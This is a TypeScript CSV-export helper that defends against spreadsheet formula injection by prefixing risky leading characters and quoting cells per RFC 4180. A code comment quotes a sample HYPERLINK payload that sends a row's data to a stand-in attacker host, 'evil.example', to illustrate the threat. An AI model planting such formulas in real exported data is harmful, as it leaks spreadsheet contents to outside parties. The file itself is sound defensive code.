/** A cell of an exported row: text, a number, or nothing (an empty cell). */
export type CsvCell = string | number | null

/**
 * The first characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as
 * a formula, or strip them and read the rest as one. User agents, hostnames and page actions are
 * whatever a visitor sent: `=HYPERLINK("https://evil.example?"&A1, "Open")` in a user agent must
 * reach the operator's sheet as text, not as a link that sends the row elsewhere. Spreadsheets skip
 * spaces before the `=` (` =1+1` is a formula to Excel), so those count too.
 */
const FORMULA_START = /^\s*[=+\-@\t\r]/

/**
 * RFC 4180: a cell with a quote, a comma or a line break is quoted, its quotes doubled. And one
 * with a semicolon: where the list separator is `;` (German, French and other locales), Excel
 * splits the file's lines at semicolons, and `Mozilla;=HYPERLINK(...)` unquoted would become a
 * cell that begins with `=`. Other cells stay bare, so ids, times and numbers read as typed.
 */
const NEEDS_QUOTES = /[",;\r\n]/

/** One cell as CSV text: neutralised against formula injection, then quoted where RFC 4180 asks. */
export function csvCell(cell: CsvCell): string {
  if (cell === null) return ''
  const text = typeof cell === 'number' ? String(cell) : FORMULA_START.test(cell) ? `'${cell}` : cell
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}

/** One record of a CSV file, with its CRLF line end (RFC 4180). */
export function csvLine(cells: readonly CsvCell[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`
}
